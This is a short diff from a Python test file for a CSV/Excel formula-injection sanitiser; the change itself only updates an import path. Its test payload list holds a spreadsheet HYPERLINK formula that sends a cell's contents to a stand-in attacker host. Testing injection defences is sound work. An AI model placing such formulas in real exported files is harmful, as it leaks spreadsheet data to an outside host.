@@ -9,7 +9,7 @@ import openpyxl
 import pandas as pd
 import pytest
 
-from forecasting.csv_safety import formula_safe, one_note, write_csv, write_excel
+from forecasting.common.csv_safety import formula_safe, one_note, write_csv, write_excel
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?"&A1,"Click")',
